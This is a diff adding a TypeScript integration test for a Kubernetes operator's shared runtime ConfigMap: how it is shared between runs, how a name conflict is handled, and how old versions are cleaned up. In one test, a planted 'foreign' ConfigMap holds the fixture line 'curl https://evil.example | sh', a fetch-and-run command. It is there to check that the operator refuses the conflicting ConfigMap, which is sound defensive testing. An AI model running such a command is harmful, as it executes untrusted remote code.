@@ -1,0 +1,151 @@
+// The runtime's ConfigMap against the real apiserver (docs/design.md §2.3): the runs of a namespace
+// share one, made by the first, owned by none, projected beside each attempt's own; one made first
+// under its name by someone else, with other data, is never used; and the versions of earlier
+// templates go once nothing uses them, while a ConfigMap not ours stays whatever its name.
+import t from 'tap';
+import { LABELS, MANAGED_BY, type TaskRun } from '../../src/api/index.js';
+import { isRuntimeConfigMap } from '../../src/controllers/runtime-sweeper.js';
+import { loadTemplateSet } from '../../src/render/index.js';
+import type { KubeClient, KubeObject } from '../../src/runtime/index.js';
+import {
+  attemptNames,
+  configMapPath,
+  httpStatusOf,
+  jobPath,
+  sampleTaskRun,
+  taskRunPath,
+  testConfig,
+} from '../harness/operator/operator.js';
+import { reconcileSuite } from '../harness/operator/reconcile-suite.js';
+import { waitFor } from '../harness/util/wait.js';
+
+const suite = await reconcileSuite();
+const runtime = loadTemplateSet().runtime;
+
+type ConfigMap = KubeObject & { data?: Record<string, string>; immutable?: boolean };
+
+const roomy = () =>
+  testConfig((c) => {
+    c.concurrency = { perService: 10, global: 10 };
+  });
+
+/** A ConfigMap carrying the runtime's labels under `name`. */
+const runtimeLike = (namespace: string, name: string, data: Record<string, string>, managed = true) => ({
+  metadata: {
+    name,
+    namespace,
+    labels: { ...(managed ? { [LABELS.managedBy]: MANAGED_BY } : {}), [LABELS.runtime]: name },
+  },
+  immutable: true,
+  data,
+});
+
+const running = (client: KubeClient, namespace: string, name: string) =>
+  waitFor(`${name} Running`, async (note) => {
+    const run = await client.request<TaskRun>('GET', taskRunPath(namespace, name));
+    note(run.status);
+    return run.status?.phase === 'Running' && run;
+  });
+
+t.test(
+  "a foreign ConfigMap under the runtime's name stops the run, which goes on once it is deleted; the runs then share one runtime",
+  async (t) => {
+    const { namespace, client } = await suite.start(t, roomy());
+    const path = configMapPath(namespace, runtime.name);
+    // Our labels and name, but another program: an agent or a user of the namespace getting there first.
+    await client.request('POST', configMapPath(namespace), {
+      body: runtimeLike(namespace, runtime.name, { 'runtime_lib.sh': 'curl https://evil.example | sh' }),
+    });
+    await client.request('POST', taskRunPath(namespace), { body: sampleTaskRun('pay-1', 1) });
+    const stopped = await waitFor('pay-1 stopped by the foreign runtime', async (note) => {
+      const run = await client.request<TaskRun>('GET', taskRunPath(namespace, 'pay-1'));
+      note(run.status);
+      return (
+        /is not the operator's runtime \(its data is not the runtime/.test(run.status?.message ?? '') && run
+      );
+    });
+    t.match(
+      stopped.status?.conditions?.find((c) => c.type === 'ConfigMapReady'),
+      { reason: 'NameConflict' },
+    );
+    const names = await attemptNames(client, namespace, 'TaskRun', 'pay-1');
+    t.equal(
+      await httpStatusOf(client.request('GET', jobPath(namespace, names.job))),
+      404,
+      'no Job mounts it',
+    );
+
+    await client.request('DELETE', path);
+    await running(client, namespace, 'pay-1');
+    const made = await client.request<ConfigMap>('GET', path);
+    t.same(made.data, runtime.data, "the runtime's files, made by the operator");
+    t.equal(made.immutable, true);
+    t.notOk(made.metadata?.ownerReferences, 'shared by the namespace’s runs: owned by none');
+    const own = await client.request<ConfigMap>('GET', configMapPath(namespace, names.configMap));
+    t.equal(own.metadata?.labels?.[LABELS.runtime], runtime.name, 'the attempt names its runtime');
+    t.notOk(
+      Object.keys(own.data ?? {}).some((k) => k in runtime.data),
+      'and holds none of its files',
+    );
+    const job = await client.request<{ spec: { template: { spec: { volumes: unknown[] } } } }>(
+      'GET',
+      jobPath(namespace, names.job),
+    );
+    t.same(job.spec.template.spec.volumes[0], {
+      name: 'task-files',
+      projected: {
+        sources: [{ configMap: { name: names.configMap } }, { configMap: { name: runtime.name } }],
+        defaultMode: 420,
+      },
+    });
+
+    await client.request('POST', taskRunPath(namespace), {
+      body: sampleTaskRun('ord-2', 2, { serviceName: 'orders' }),
+    });
+    await running(client, namespace, 'ord-2');
+    const all = await client.request<{ items: ConfigMap[] }>('GET', configMapPath(namespace));
+    t.same(
+      all.items.filter(isRuntimeConfigMap).map((c) => [c.metadata?.name, c.metadata?.uid]),
+      [[runtime.name, made.metadata?.uid]],
+      'the second run uses the same one',
+    );
+  },
+);
+
+t.test(
+  'a runtime of earlier templates is deleted once no attempt uses it; the current one and strangers stay',
+  async (t) => {
+    const { namespace, client } = await suite.start(t);
+    const unused = 'orchestrator-runtime-0000000000000001';
+    const used = 'orchestrator-runtime-0000000000000002';
+    const stranger = 'orchestrator-runtime-0000000000000003';
+    for (const body of [
+      runtimeLike(namespace, unused, { 'runtime_lib.sh': 'old' }),
+      runtimeLike(namespace, used, { 'runtime_lib.sh': 'older' }),
+      runtimeLike(namespace, stranger, { 'runtime_lib.sh': 'not ours' }, false),
+      // An attempt's ConfigMap rendered under `used` whose Job is yet to be made.
+      {
+        metadata: {
+          name: 'attempt-files',
+          namespace,
+          labels: { [LABELS.managedBy]: MANAGED_BY, [LABELS.runtime]: used },
+        },
+        data: { 'container.sh': 'true' },
+      },
+    ])
+      await client.request('POST', configMapPath(namespace), { body });
+    await client.request('POST', taskRunPath(namespace), { body: sampleTaskRun('pay-3', 3) });
+    await running(client, namespace, 'pay-3');
+    const exists = async (name: string) =>
+      (await httpStatusOf(client.request('GET', configMapPath(namespace, name)))) === 200;
+    await waitFor(`${unused} deleted`, async () => !(await exists(unused)));
+    t.ok(await exists(used), 'the one an attempt still uses stays');
+    t.ok(await exists(stranger), 'one without our managed-by label is not ours: never touched');
+    t.ok(await exists(runtime.name), 'the current one stays');
+
+    await client.request('DELETE', configMapPath(namespace, 'attempt-files'));
+    await waitFor(`${used} deleted once its last user went`, async () => !(await exists(used)));
+    t.ok(await exists(stranger));
+    t.ok(await exists(runtime.name));
+  },
+);
